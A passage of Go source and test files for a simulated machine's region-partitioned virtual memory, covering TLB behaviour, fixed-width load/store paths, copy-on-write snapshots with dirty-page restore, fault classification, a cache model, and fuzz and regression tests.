	m.MapRegion(1, 0)
	a := Addr(1, 0)
	b := Addr(1, uint64(tlbSize)*pageSize) // same TLB slot as a
	m.Write(a, 8, 1)
	m.Write(b, 8, 2)
	for i := 0; i < 3; i++ { // alternate to force slot replacement
		if v, f := m.Read(a, 8); f != nil || v != 1 {
			t.Fatalf("iter %d: read a = %d, %v", i, v, f)
		}
		if v, f := m.Read(b, 8); f != nil || v != 2 {
			t.Fatalf("iter %d: read b = %d, %v", i, v, f)
		}
	}
}

// Bulk copies crossing page boundaries must match byte-wise access.
func TestBulkCrossPage(t *testing.T) {
	m := New()
	m.MapRegion(1, 0)
	base := Addr(1, pageSize-3) // straddles the first page boundary
	data := []byte{1, 2, 3, 4, 5, 6}
	if f := m.WriteBytes(base, data); f != nil {
		t.Fatal(f)
	}
	for i, want := range data {
		v, f := m.Read(base+uint64(i), 1)
		if f != nil || byte(v) != want {
			t.Errorf("byte %d = %d, %v, want %d", i, v, f, want)
		}
	}
	got, f := m.ReadBytes(base, len(data))
	if f != nil || string(got) != string(data) {
		t.Errorf("ReadBytes = %v, %v", got, f)
	}
	// A never-written page in the middle of a range reads as zeroes.
	hole := Addr(1, 0x100000)
	m.Write(hole-8, 8, ^uint64(0))
	m.Write(hole+pageSize, 8, ^uint64(0))
	span, f := m.ReadBytes(hole, pageSize)
	if f != nil {
		t.Fatal(f)
	}
	for i, c := range span {
		if c != 0 {
			t.Fatalf("unwritten byte %d = %d, want 0", i, c)
		}
	}
}

// WriteBytes into a partially valid range keeps the historical
// semantics: bytes before the fault are written, the fault names the
// first bad byte.
func TestWriteBytesPartialFault(t *testing.T) {
	m := New()
	m.MapRegion(1, 4) // only offsets 0..3 valid
	f := m.WriteBytes(Addr(1, 2), []byte{7, 8, 9})
	if f == nil || f.Kind != FaultUnmapped || f.Addr != Addr(1, 4) || f.Size != 1 {
		t.Fatalf("fault = %+v, want unmapped at offset 4 size 1", f)
	}
	for i, want := range []uint64{7, 8} {
		if v, _ := m.Read(Addr(1, 2+uint64(i)), 1); v != want {
			t.Errorf("partial write byte %d = %d, want %d", i, v, want)
		}
	}
}

// ReadCString stopping at a NUL before an inaccessible byte succeeds.
func TestReadCStringBeforeFault(t *testing.T) {
	m := New()
	m.MapRegion(1, 8)
	if f := m.WriteBytes(Addr(1, 0), []byte("hi\x00")); f != nil {
		t.Fatal(f)
	}
	s, f := m.ReadCString(Addr(1, 0), 64) // max extends past the limit
	if f != nil || s != "hi" {
		t.Errorf("ReadCString = %q, %v", s, f)
	}
	// With no NUL before the limit, the first bad byte faults.
	m2 := New()
	m2.MapRegion(1, 4)
	if f := m2.WriteBytes(Addr(1, 0), []byte{1, 2, 3, 4}); f != nil {
		t.Fatal(f)
	}
	if _, f := m2.ReadCString(Addr(1, 0), 64); f == nil || f.Addr != Addr(1, 4) {
		t.Errorf("unterminated string fault = %+v", f)
	}
}

// A string spanning a page boundary exercises the frame-chunk scan.
func TestReadCStringCrossPage(t *testing.T) {
	m := New()
	m.MapRegion(1, 0)
	base := Addr(1, pageSize-2)
	if f := m.WriteBytes(base, []byte("abcd\x00")); f != nil {
		t.Fatal(f)
	}
	if s, f := m.ReadCString(base, 64); f != nil || s != "abcd" {
		t.Errorf("ReadCString = %q, %v", s, f)
	}
}

func BenchmarkMemoryAccess(b *testing.B) {
	for _, cfg := range []struct {
		name string
		size int
	}{{"read8", 8}, {"read1", 1}} {
		b.Run(cfg.name, func(b *testing.B) {
			m := New()
			m.MapRegion(1, 0)
			const span = 1 << 16 // 16 pages, enough to exercise the TLB
			for off := uint64(0); off < span; off += 8 {
				m.Write(Addr(1, off), 8, off)
			}
			b.ResetTimer()
			var sink uint64
			for i := 0; i < b.N; i++ {
				addr := Addr(1, uint64(i*8)%span)
				v, f := m.Read(addr, cfg.size)
				if f != nil {
					b.Fatal(f)
				}
				sink += v
			}
			_ = sink
		})
	}
	b.Run("write8", func(b *testing.B) {
		m := New()
		m.MapRegion(1, 0)
		const span = 1 << 16
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			if f := m.Write(Addr(1, uint64(i*8)%span), 8, uint64(i)); f != nil {
				b.Fatal(f)
			}
		}
	})
	b.Run("readbytes4k", func(b *testing.B) {
		m := New()
		m.MapRegion(1, 0)
		if f := m.WriteBytes(Addr(1, 100), make([]byte, 8192)); f != nil {
			b.Fatal(f)
		}
		b.SetBytes(4096)
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			if _, f := m.ReadBytes(Addr(1, 100), 4096); f != nil {
				b.Fatal(f)
			}
		}
	})
}
