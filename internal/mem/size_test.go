package mem

import "testing"

// Regression: a non-power-of-two size used to bypass the alignment check
// (addr&(size-1) is a meaningless mask for size 3) and reach the default
// byte loop, which indexes p[base+i] past the 4 KiB frame when the access
// crosses a page boundary — an out-of-bounds panic on the host, not a
// guest fault. Such sizes are now rejected up front with FaultBadSize.
func TestBadSizeRejected(t *testing.T) {
	m := New()
	m.MapRegion(1, 0)
	for _, size := range []int{0, 3, 5, 6, 7, 9, 16, -1} {
		if _, f := m.Read(Addr(1, 0x100), size); f == nil || f.Kind != FaultBadSize {
			t.Errorf("Read size %d: fault = %v, want bad size", size, f)
		}
		if f := m.Write(Addr(1, 0x100), size, 0); f == nil || f.Kind != FaultBadSize {
			t.Errorf("Write size %d: fault = %v, want bad size", size, f)
		}
	}
	for _, size := range []int{1, 2, 4, 8} {
		if _, f := m.Read(Addr(1, 0x100), size); f != nil {
			t.Errorf("Read size %d: unexpected fault %v", size, f)
		}
	}
}

// Regression for the page-crossing panic: size 3 at offset pageSize-1 has
// addr&(size-1) == 0 for some addresses, so the old fast path admitted it
// and the byte loop ran past the frame. Must now fault, not panic.
func TestBadSizePageCrossing(t *testing.T) {
	m := New()
	m.MapRegion(1, 0)
	// Populate the frame so the read path reaches the indexing code.
	if f := m.Write(Addr(1, pageSize-8), 8, ^uint64(0)); f != nil {
		t.Fatal(f)
	}
	// Offset pageSize-4 is 0 mod 4, so size 3's bogus mask (size-1 = 2)
	// passes the old alignment test while base+2 stays in frame; offset
	// pageSize-2 with size 3 would index past the frame entirely.
	for _, off := range []uint64{pageSize - 4, pageSize - 2, pageSize - 1} {
		if _, f := m.Read(Addr(1, off), 3); f == nil || f.Kind != FaultBadSize {
			t.Errorf("size-3 read at offset %#x: fault = %v, want bad size", off, f)
		}
		if f := m.Write(Addr(1, off), 3, 0x112233); f == nil || f.Kind != FaultBadSize {
			t.Errorf("size-3 write at offset %#x: fault = %v, want bad size", off, f)
		}
	}
}

// Peek must return the same bytes as Read without touching the cache
// model's counters or contents.
func TestPeekCacheNeutral(t *testing.T) {
	m := New()
	m.MapRegion(1, 0)
	m.Cache = NewCache(16*1024, 64)
	if f := m.Write(Addr(1, 0x40), 8, 0x0807060504030201); f != nil {
		t.Fatal(f)
	}
	hits, misses := m.Cache.Hits, m.Cache.Misses
	for i := uint64(0); i < 8; i++ {
		b, f := m.Peek(Addr(1, 0x40+i))
		if f != nil {
			t.Fatal(f)
		}
		if want := byte(i + 1); b != want {
			t.Errorf("Peek byte %d = %d, want %d", i, b, want)
		}
	}
	if m.Cache.Hits != hits || m.Cache.Misses != misses {
		t.Errorf("Peek perturbed cache counters: %d/%d -> %d/%d",
			hits, misses, m.Cache.Hits, m.Cache.Misses)
	}
	// Unmapped and unimplemented addresses still classify.
	if _, f := m.Peek(Addr(2, 0)); f == nil || f.Kind != FaultUnmapped {
		t.Errorf("Peek unmapped: fault = %v", f)
	}
	if _, f := m.Peek(Addr(1, 0) | 1<<40); f == nil || f.Kind != FaultUnimplemented {
		t.Errorf("Peek unimplemented: fault = %v", f)
	}
	// A never-written page reads as zero.
	if b, f := m.Peek(Addr(1, 0x100000)); f != nil || b != 0 {
		t.Errorf("Peek unwritten = %d, %v", b, f)
	}
}

// CheckAccess must agree with Read on both the verdict and the fault
// classification, without performing the access.
func TestCheckAccessMatchesRead(t *testing.T) {
	m := New()
	m.MapRegion(1, 0x2000)
	m.Cache = NewCache(16*1024, 64)
	cases := []struct {
		addr uint64
		size int
	}{
		{Addr(1, 0x100), 8},
		{Addr(1, 0x101), 8}, // unaligned
		{Addr(1, 0x100), 3}, // bad size
		{Addr(1, 0x1ff8), 8},
		{Addr(1, 0x1ffc), 8}, // past limit
		{Addr(2, 0x100), 8},  // unmapped region
		{Addr(1, 0x100) | 1 << 50, 8}, // unimplemented bits
	}
	for _, c := range cases {
		hits, misses := m.Cache.Hits, m.Cache.Misses
		got := m.CheckAccess(c.addr, c.size)
		if m.Cache.Hits != hits || m.Cache.Misses != misses {
			t.Errorf("CheckAccess(%#x, %d) touched the cache", c.addr, c.size)
		}
		_, f := m.Read(c.addr, c.size)
		switch {
		case (got == nil) != (f == nil):
			t.Errorf("CheckAccess(%#x, %d) = %v but Read fault = %v", c.addr, c.size, got, f)
		case got != nil && got.Kind != f.Kind:
			t.Errorf("CheckAccess(%#x, %d) kind %v != Read kind %v", c.addr, c.size, got.Kind, f.Kind)
		}
	}
}

// FuzzMemAccess drives Read/Write/Peek/CheckAccess with arbitrary
// addresses and sizes: no call may panic, faults must classify
// consistently, and a successful write must read back.
func FuzzMemAccess(f *testing.F) {
	f.Add(uint64(1)<<61|0x100, 8, uint64(0xdeadbeef))
	f.Add(uint64(7)<<61|uint64(OffsetMask-2), 4, uint64(1))
	f.Add(uint64(0x123), 3, uint64(0))
	f.Add(uint64(1)<<61|pageSize-1, 7, ^uint64(0))
	f.Fuzz(func(t *testing.T, addr uint64, size int, v uint64) {
		m := New()
		m.MapRegion(1, 0)
		m.MapRegion(7, 0x10000)
		if pre := m.CheckAccess(addr, size); pre != nil {
			if wf := m.Write(addr, size, v); wf == nil || wf.Kind != pre.Kind {
				t.Fatalf("CheckAccess says %v but Write says %v", pre, wf)
			}
			return
		}
		if f := m.Write(addr, size, v); f != nil {
			t.Fatalf("CheckAccess passed but Write faulted: %v", f)
		}
		got, f := m.Read(addr, size)
		if f != nil {
			t.Fatalf("read-back faulted: %v", f)
		}
		want := v
		if size < 8 {
			want &= 1<<(8*uint(size)) - 1
		}
		if got != want {
			t.Fatalf("read-back = %#x, want %#x", got, want)
		}
		b, pf := m.Peek(addr)
		if pf != nil {
			t.Fatalf("Peek faulted after successful write: %v", pf)
		}
		if b != byte(want) {
			t.Fatalf("Peek low byte = %#x, want %#x", b, byte(want))
		}
	})
}
