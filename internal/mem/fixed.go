// Fixed-width load/store fast paths. These are the ReadMiss/Write bodies
// with the access size a compile-time constant: the size-validity switch
// disappears, the alignment mask folds into the unimplemented-bits test,
// and the width dispatch is resolved at the call site. The translated-
// block engine binds one of these per decoded memory instruction, so the
// per-access validation work is exactly one compare-and-branch on the
// common path. Fault classification, cache accounting, TLB behaviour and
// dirty-page tracking are identical to the generic paths — the sized
// writers MUST mark dirty pages exactly as Write does, or a pooled
// guest's Restore silently skips everything the block engine stored.
package mem

import "encoding/binary"

// Read8Miss is ReadMiss specialized to an 8-byte access.
func (m *Memory) Read8Miss(addr uint64) (uint64, bool, *Fault) {
	off := addr & OffsetMask
	b := m.bound[addr>>RegionShift]
	if addr&(unimplMask|7) != 0 || off >= b || 8 > b-off {
		if f := m.check(addr, 8); f != nil {
			return 0, false, f
		}
	}
	missed := false
	if m.Cache != nil {
		missed = !m.Cache.Access(addr)
	}
	p := m.frame(addr, false)
	if p == nil {
		return 0, missed, nil
	}
	base := addr & (pageSize - 1)
	return binary.LittleEndian.Uint64(p[base : base+8]), missed, nil
}

// Read4Miss is ReadMiss specialized to a 4-byte access.
func (m *Memory) Read4Miss(addr uint64) (uint64, bool, *Fault) {
	off := addr & OffsetMask
	b := m.bound[addr>>RegionShift]
	if addr&(unimplMask|3) != 0 || off >= b || 4 > b-off {
		if f := m.check(addr, 4); f != nil {
			return 0, false, f
		}
	}
	missed := false
	if m.Cache != nil {
		missed = !m.Cache.Access(addr)
	}
	p := m.frame(addr, false)
	if p == nil {
		return 0, missed, nil
	}
	base := addr & (pageSize - 1)
	return uint64(binary.LittleEndian.Uint32(p[base : base+4])), missed, nil
}

// Read2Miss is ReadMiss specialized to a 2-byte access.
func (m *Memory) Read2Miss(addr uint64) (uint64, bool, *Fault) {
	off := addr & OffsetMask
	b := m.bound[addr>>RegionShift]
	if addr&(unimplMask|1) != 0 || off >= b || 2 > b-off {
		if f := m.check(addr, 2); f != nil {
			return 0, false, f
		}
	}
	missed := false
	if m.Cache != nil {
		missed = !m.Cache.Access(addr)
	}
	p := m.frame(addr, false)
	if p == nil {
		return 0, missed, nil
	}
	base := addr & (pageSize - 1)
	return uint64(binary.LittleEndian.Uint16(p[base : base+2])), missed, nil
}

// Read1Miss is ReadMiss specialized to a 1-byte access.
func (m *Memory) Read1Miss(addr uint64) (uint64, bool, *Fault) {
	off := addr & OffsetMask
	b := m.bound[addr>>RegionShift]
	if addr&unimplMask != 0 || off >= b {
		if f := m.check(addr, 1); f != nil {
			return 0, false, f
		}
	}
	missed := false
	if m.Cache != nil {
		missed = !m.Cache.Access(addr)
	}
	p := m.frame(addr, false)
	if p == nil {
		return 0, missed, nil
	}
	return uint64(p[addr&(pageSize-1)]), missed, nil
}

// Write8 is Write specialized to an 8-byte access.
func (m *Memory) Write8(addr uint64, v uint64) *Fault {
	off := addr & OffsetMask
	b := m.bound[addr>>RegionShift]
	if addr&(unimplMask|7) != 0 || off >= b || 8 > b-off {
		if f := m.check(addr, 8); f != nil {
			return f
		}
	}
	if m.Cache != nil {
		m.Cache.Access(addr)
	}
	if m.track {
		m.markDirty(addr >> pageBits)
	}
	p := m.frame(addr, true)
	base := addr & (pageSize - 1)
	binary.LittleEndian.PutUint64(p[base:base+8], v)
	return nil
}

// Write4 is Write specialized to a 4-byte access.
func (m *Memory) Write4(addr uint64, v uint64) *Fault {
	off := addr & OffsetMask
	b := m.bound[addr>>RegionShift]
	if addr&(unimplMask|3) != 0 || off >= b || 4 > b-off {
		if f := m.check(addr, 4); f != nil {
			return f
		}
	}
	if m.Cache != nil {
		m.Cache.Access(addr)
	}
	if m.track {
		m.markDirty(addr >> pageBits)
	}
	p := m.frame(addr, true)
	base := addr & (pageSize - 1)
	binary.LittleEndian.PutUint32(p[base:base+4], uint32(v))
	return nil
}

// Write2 is Write specialized to a 2-byte access.
func (m *Memory) Write2(addr uint64, v uint64) *Fault {
	off := addr & OffsetMask
	b := m.bound[addr>>RegionShift]
	if addr&(unimplMask|1) != 0 || off >= b || 2 > b-off {
		if f := m.check(addr, 2); f != nil {
			return f
		}
	}
	if m.Cache != nil {
		m.Cache.Access(addr)
	}
	if m.track {
		m.markDirty(addr >> pageBits)
	}
	p := m.frame(addr, true)
	base := addr & (pageSize - 1)
	binary.LittleEndian.PutUint16(p[base:base+2], uint16(v))
	return nil
}

// Write1 is Write specialized to a 1-byte access.
func (m *Memory) Write1(addr uint64, v uint64) *Fault {
	off := addr & OffsetMask
	b := m.bound[addr>>RegionShift]
	if addr&unimplMask != 0 || off >= b {
		if f := m.check(addr, 1); f != nil {
			return f
		}
	}
	if m.Cache != nil {
		m.Cache.Access(addr)
	}
	if m.track {
		m.markDirty(addr >> pageBits)
	}
	p := m.frame(addr, true)
	p[addr&(pageSize-1)] = byte(v)
	return nil
}
