package mem

import (
	"testing"
)

// loadImage builds a memory shaped like a loaded program: region 0 (tag
// space), region 1 (data), region 2 (stack), with a data segment.
func loadImage(t *testing.T) *Memory {
	t.Helper()
	m := New()
	m.MapRegion(0, 0)
	m.MapRegion(1, 0)
	m.MapRegion(2, 0)
	if f := m.WriteBytes(Addr(1, 0x100), []byte("data segment contents")); f != nil {
		t.Fatal(f)
	}
	return m
}

func TestSnapshotRestoreRewindsWrites(t *testing.T) {
	m := loadImage(t)
	snap := m.Snapshot()
	m.EnableDirtyTracking()

	// Mutate the data segment, write a fresh heap page, taint a tag byte.
	if f := m.Write(Addr(1, 0x100), 8, 0xdeadbeef); f != nil {
		t.Fatal(f)
	}
	if f := m.Write(Addr(1, 0x400000), 8, 42); f != nil {
		t.Fatal(f)
	}
	if f := m.Write(Addr(0, 0x20), 1, 0xff); f != nil {
		t.Fatal(f)
	}
	if m.DirtyPages() == 0 {
		t.Fatal("writes did not mark pages dirty")
	}

	n := m.Restore(snap)
	if n == 0 {
		t.Fatal("Restore restored no pages")
	}
	if m.DirtyPages() != 0 {
		t.Fatalf("dirty set not cleared: %d pages", m.DirtyPages())
	}
	got, f := m.ReadBytes(Addr(1, 0x100), 21)
	if f != nil {
		t.Fatal(f)
	}
	if string(got) != "data segment contents" {
		t.Fatalf("data segment not restored: %q", got)
	}
	for _, a := range []uint64{Addr(1, 0x400000), Addr(0, 0x20) &^ 7} {
		v, fault := m.Read(a, 8)
		if fault != nil {
			t.Fatal(fault)
		}
		if v != 0 {
			t.Fatalf("post-snapshot page at %#x not zeroed: %#x", a, v)
		}
	}
}

func TestSnapshotIsImmutable(t *testing.T) {
	m := loadImage(t)
	snap := m.Snapshot()
	m.EnableDirtyTracking()
	if f := m.Write(Addr(1, 0x100), 8, 0x1111111111111111); f != nil {
		t.Fatal(f)
	}
	// A second memory built from the snapshot must see the original
	// bytes, not the first memory's write.
	m2 := NewFromSnapshot(snap)
	got, f := m2.ReadBytes(Addr(1, 0x100), 4)
	if f != nil {
		t.Fatal(f)
	}
	if string(got) != "data" {
		t.Fatalf("snapshot mutated by source write: %q", got)
	}
}

func TestCopyOnWriteIsolatesGuests(t *testing.T) {
	base := loadImage(t)
	snap := base.Snapshot()
	g1 := NewFromSnapshot(snap)
	g2 := NewFromSnapshot(snap)

	// Both read the shared base.
	for i, g := range []*Memory{g1, g2} {
		got, f := g.ReadBytes(Addr(1, 0x100), 4)
		if f != nil {
			t.Fatal(f)
		}
		if string(got) != "data" {
			t.Fatalf("guest %d base read = %q", i, got)
		}
	}

	// g1 writes; g2 and the snapshot must not see it — including via
	// g2's software TLB, which must never have cached the shared frame.
	if f := g1.Write(Addr(1, 0x100), 1, 'X'); f != nil {
		t.Fatal(f)
	}
	v1, _ := g1.Read(Addr(1, 0x100), 1)
	if v1 != 'X' {
		t.Fatalf("g1 write lost: %c", v1)
	}
	v2, _ := g2.Read(Addr(1, 0x100), 1)
	if v2 != 'd' {
		t.Fatalf("g1 write leaked into g2: %c", v2)
	}

	// And the write must not survive g1's restore.
	g1.Restore(snap)
	v1, _ = g1.Read(Addr(1, 0x100), 1)
	if v1 != 'd' {
		t.Fatalf("g1 restore did not rewind COW page: %c", v1)
	}
}

func TestRestoreCostIsDirtyBounded(t *testing.T) {
	m := loadImage(t)
	// Touch many pages before the snapshot so the footprint is large.
	for i := 0; i < 256; i++ {
		if f := m.Write(Addr(1, uint64(i)*pageSize), 8, uint64(i)); f != nil {
			t.Fatal(f)
		}
	}
	snap := m.Snapshot()
	m.EnableDirtyTracking()
	// Dirty exactly three pages.
	for i := 0; i < 3; i++ {
		if f := m.Write(Addr(1, uint64(i)*pageSize), 8, ^uint64(0)); f != nil {
			t.Fatal(f)
		}
	}
	if n := m.Restore(snap); n != 3 {
		t.Fatalf("Restore touched %d pages, want 3 (O(dirty), not O(resident))", n)
	}
	for i := 0; i < 256; i++ {
		v, f := m.Read(Addr(1, uint64(i)*pageSize), 8)
		if f != nil {
			t.Fatal(f)
		}
		if v != uint64(i) {
			t.Fatalf("page %d content %#x after restore", i, v)
		}
	}
}

func TestZeroRegionPages(t *testing.T) {
	m := loadImage(t)
	// Tag bytes in region 0, data in region 1.
	if f := m.Write(Addr(0, 0x10), 1, 0x0f); f != nil {
		t.Fatal(f)
	}
	if f := m.Write(Addr(0, 0x2000), 1, 0x01); f != nil {
		t.Fatal(f)
	}
	if n := m.ZeroRegionPages(0); n != 2 {
		t.Fatalf("zeroed %d pages, want 2", n)
	}
	for _, off := range []uint64{0x10, 0x2000} {
		v, _ := m.Read(Addr(0, off&^7), 8)
		if v != 0 {
			t.Fatalf("tag byte at %#x survived ZeroRegionPages", off)
		}
	}
	// Region 1 untouched.
	got, _ := m.ReadBytes(Addr(1, 0x100), 4)
	if string(got) != "data" {
		t.Fatalf("ZeroRegionPages(0) touched region 1: %q", got)
	}
	// Idempotent and cheap when clean.
	if n := m.ZeroRegionPages(0); n != 0 {
		t.Fatalf("second clear zeroed %d pages, want 0", n)
	}
}

func TestZeroRegionPagesShadowsBaseFrames(t *testing.T) {
	m := loadImage(t)
	if f := m.Write(Addr(0, 0x10), 1, 0xaa); f != nil {
		t.Fatal(f)
	}
	snap := m.Snapshot()
	g := NewFromSnapshot(snap)
	// The guest sees the base tag byte; clearing must shadow it with a
	// private zero page, not mutate the shared base.
	if v, _ := g.Read(Addr(0, 0x10) &^ 7, 8); v == 0 {
		t.Fatal("base tag byte not visible through COW")
	}
	if n := g.ZeroRegionPages(0); n != 1 {
		t.Fatalf("zeroed %d pages, want 1", n)
	}
	if v, _ := g.Read(Addr(0, 0x10) &^ 7, 8); v != 0 {
		t.Fatalf("tag byte survived clear: %#x", v)
	}
	// The other guest and the snapshot still see the original.
	g2 := NewFromSnapshot(snap)
	if v, _ := g2.Read(Addr(0, 0x10) &^ 7, 8); v == 0 {
		t.Fatal("clear leaked into the shared snapshot")
	}
}

func TestSharedAccessorsSeeBaseLayer(t *testing.T) {
	m := loadImage(t)
	snap := m.Snapshot()
	g := NewFromSnapshot(snap)
	v, f := g.SharedPeek1(Addr(1, 0x100))
	if f != nil {
		t.Fatal(f)
	}
	if v != 'd' {
		t.Fatalf("SharedPeek1 through base = %c, want d", v)
	}
	// SharedWrite1 copies up and is rewound by Restore.
	if f := g.SharedWrite1(Addr(1, 0x100), 'Z'); f != nil {
		t.Fatal(f)
	}
	if v, _ := g.SharedPeek1(Addr(1, 0x100)); v != 'Z' {
		t.Fatalf("SharedWrite1 lost: %c", v)
	}
	if v, _ := m.Read(Addr(1, 0x100), 1); v != 'd' {
		t.Fatalf("SharedWrite1 leaked into source memory: %c", v)
	}
	g.Restore(snap)
	if v, _ := g.SharedPeek1(Addr(1, 0x100)); v != 'd' {
		t.Fatalf("Restore did not rewind SharedWrite1: %c", v)
	}
}

// The block engine's fixed-width store fast paths must participate in
// dirty tracking exactly like the generic Write — this is the
// lifecycle bug the differential reuse suite caught: a recycled guest
// whose stores all came through Write8/4/2/1 restored almost nothing.
func TestSizedWritersMarkDirty(t *testing.T) {
	m := New()
	m.MapRegion(1, 0)
	if f := m.WriteBytes(Addr(1, 0), make([]byte, 5*pageSize)); f != nil {
		t.Fatal(f)
	}
	s := m.Snapshot()
	g := NewFromSnapshot(s)
	stores := []func(){
		func() { g.Write8(Addr(1, 0*pageSize), 1) },
		func() { g.Write4(Addr(1, 1*pageSize), 1) },
		func() { g.Write2(Addr(1, 2*pageSize), 1) },
		func() { g.Write1(Addr(1, 3*pageSize), 1) },
	}
	for i, st := range stores {
		st()
		if got := g.DirtyPages(); got != i+1 {
			t.Fatalf("after sized store %d: dirty=%d, want %d", i, got, i+1)
		}
	}
	if n := g.Restore(s); n != 4 {
		t.Fatalf("Restore rewound %d pages, want 4", n)
	}
	for i := 0; i < 4; i++ {
		if v, f := g.Read(Addr(1, uint64(i)*pageSize), 8); f != nil || v != 0 {
			t.Fatalf("page %d not rewound: v=%#x f=%v", i, v, f)
		}
	}
}
