package mem

import (
	"testing"
	"testing/quick"
)

func TestAddressDecomposition(t *testing.T) {
	a := Addr(3, 0x1234)
	if Region(a) != 3 || Offset(a) != 0x1234 {
		t.Errorf("Addr/Region/Offset inconsistent: %#x -> region %d offset %#x", a, Region(a), Offset(a))
	}
	if !Implemented(a) {
		t.Errorf("constructed address %#x reported unimplemented", a)
	}
	// Any bit in the hole between ImplBits and RegionShift is a fault.
	hole := a | 1<<ImplBits
	if Implemented(hole) {
		t.Errorf("address with hole bit %#x reported implemented", hole)
	}
}

func TestAddrDecomposeRoundTrip(t *testing.T) {
	f := func(region uint8, off uint64) bool {
		r := uint64(region) & 7
		o := off & OffsetMask
		a := Addr(r, o)
		return Region(a) == r && Offset(a) == o && Implemented(a)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestReadWriteRoundTrip(t *testing.T) {
	m := New()
	m.MapRegion(1, 0)
	f := func(off uint64, v uint64, sizeIdx uint8) bool {
		size := []int{1, 2, 4, 8}[sizeIdx%4]
		addr := Addr(1, off&OffsetMask) &^ uint64(size-1)
		if f := m.Write(addr, size, v); f != nil {
			return false
		}
		got, f := m.Read(addr, size)
		if f != nil {
			return false
		}
		mask := ^uint64(0)
		if size < 8 {
			mask = 1<<(8*size) - 1
		}
		return got == v&mask
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}

func TestLittleEndianLayout(t *testing.T) {
	m := New()
	m.MapRegion(1, 0)
	addr := Addr(1, 0x1000)
	if f := m.Write(addr, 8, 0x0807060504030201); f != nil {
		t.Fatal(f)
	}
	for i := 0; i < 8; i++ {
		v, f := m.Read(addr+uint64(i), 1)
		if f != nil {
			t.Fatal(f)
		}
		if v != uint64(i+1) {
			t.Errorf("byte %d = %#x, want %#x", i, v, i+1)
		}
	}
}

func TestFaults(t *testing.T) {
	m := New()
	m.MapRegion(1, 0x2000)

	cases := []struct {
		name string
		addr uint64
		size int
		kind FaultKind
	}{
		{"unmapped region", Addr(2, 0), 8, FaultUnmapped},
		{"unimplemented bits", Addr(1, 0) | 1<<40, 8, FaultUnimplemented},
		{"beyond region limit", Addr(1, 0x2000), 1, FaultUnmapped},
		{"straddles limit", Addr(1, 0x1ff8) + 8, 8, FaultUnmapped},
		{"unaligned", Addr(1, 1), 8, FaultUnaligned},
	}
	for _, c := range cases {
		_, f := m.Read(c.addr, c.size)
		if f == nil || f.Kind != c.kind {
			t.Errorf("%s: fault = %v, want kind %v", c.name, f, c.kind)
		}
		if f != nil && f.Error() == "" {
			t.Errorf("%s: empty fault message", c.name)
		}
	}

	// In-bounds access succeeds and unwritten memory reads as zero.
	v, f := m.Read(Addr(1, 0x1ff8), 8)
	if f != nil || v != 0 {
		t.Errorf("in-bounds read = %d, %v", v, f)
	}
}

func TestBytesHelpers(t *testing.T) {
	m := New()
	m.MapRegion(1, 0)
	base := Addr(1, 0x500)
	if f := m.WriteBytes(base, []byte("hello\x00world")); f != nil {
		t.Fatal(f)
	}
	s, f := m.ReadCString(base, 64)
	if f != nil || s != "hello" {
		t.Errorf("ReadCString = %q, %v", s, f)
	}
	b, f := m.ReadBytes(base+6, 5)
	if f != nil || string(b) != "world" {
		t.Errorf("ReadBytes = %q, %v", b, f)
	}
	// Truncation at max.
	s, f = m.ReadCString(base, 3)
	if f != nil || s != "hel" {
		t.Errorf("truncated ReadCString = %q, %v", s, f)
	}
}

func TestCacheModel(t *testing.T) {
	c := NewCache(1024, 64)
	if hit := c.Access(0); hit {
		t.Error("cold access reported hit")
	}
	if hit := c.Access(8); !hit {
		t.Error("same-line access reported miss")
	}
	if hit := c.Access(64); hit {
		t.Error("next-line access reported hit")
	}
	// Conflict: 1024-byte direct-mapped, so addr and addr+1024 collide.
	c.Access(4096)
	if hit := c.Access(4096 + 1024); hit {
		t.Error("conflicting access reported hit")
	}
	if c.Hits == 0 || c.Misses == 0 {
		t.Errorf("counters not maintained: hits=%d misses=%d", c.Hits, c.Misses)
	}
	c.Reset()
	if c.Hits != 0 || c.Misses != 0 {
		t.Error("reset did not clear counters")
	}
}

func TestMemoryWithCacheCounts(t *testing.T) {
	m := New()
	m.MapRegion(1, 0)
	m.Cache = NewCache(16*1024, 64)
	addr := Addr(1, 0)
	m.Write(addr, 8, 1)
	if m.Cache.Misses != 1 {
		t.Errorf("first touch misses = %d, want 1", m.Cache.Misses)
	}
	m.Read(addr, 8)
	if m.Cache.Hits != 1 {
		t.Errorf("second touch hits = %d, want 1", m.Cache.Hits)
	}
}

func TestPagesTouched(t *testing.T) {
	m := New()
	m.MapRegion(1, 0)
	m.Write(Addr(1, 0), 1, 1)
	m.Write(Addr(1, 5000), 1, 1) // second 4K page
	if got := m.PagesTouched(); got != 2 {
		t.Errorf("PagesTouched = %d, want 2", got)
	}
}
