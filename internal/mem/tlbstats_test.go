package mem

import "testing"

// The software-TLB counters must classify the classic access pattern:
// first touch of a page misses, repeats hit, and a conflicting page
// evicts the entry so the return visit misses again.
func TestTLBStats(t *testing.T) {
	m := New()
	m.MapRegion(1, 0)
	base := Addr(1, 0)

	if h, ms := m.TLBStats(); h != 0 || ms != 0 {
		t.Fatalf("fresh memory has TLB stats %d/%d", h, ms)
	}
	if f := m.WriteBytes(base, []byte{1}); f != nil {
		t.Fatal(f)
	}
	if _, ms := m.TLBStats(); ms != 1 {
		t.Errorf("first touch recorded %d misses, want 1", ms)
	}
	for i := 0; i < 5; i++ {
		if _, f := m.Read(base, 1); f != nil {
			t.Fatal(f)
		}
	}
	if h, _ := m.TLBStats(); h != 5 {
		t.Errorf("5 repeat reads recorded %d hits", h)
	}

	// A page whose key collides in the direct-mapped array (tlbSize pages
	// away) evicts the entry; returning to the first page misses.
	conflict := base + uint64(tlbSize)*pageSize
	if f := m.WriteBytes(conflict, []byte{2}); f != nil {
		t.Fatal(f)
	}
	if _, f := m.Read(base, 1); f != nil {
		t.Fatal(f)
	}
	h, ms := m.TLBStats()
	if ms != 3 {
		t.Errorf("conflict pattern recorded %d misses, want 3 (cold, conflict, re-entry)", ms)
	}
	if h != 5 {
		t.Errorf("hits moved to %d during conflict misses", h)
	}
}
