// Package mem implements the simulated machine's virtual memory: the
// Itanium-style region-partitioned 64-bit address space with unimplemented
// bits (paper §4.1, Figure 4), a sparse paged byte store, and a small L1
// cache model used by the cost accounting.
//
// The top three bits of an address select one of eight regions. Only
// ImplBits low bits of the region offset are implemented; any address with
// a set bit in the unimplemented hole faults, exactly the property that
// prevents SHIFT from deriving a tag address with a single shift and
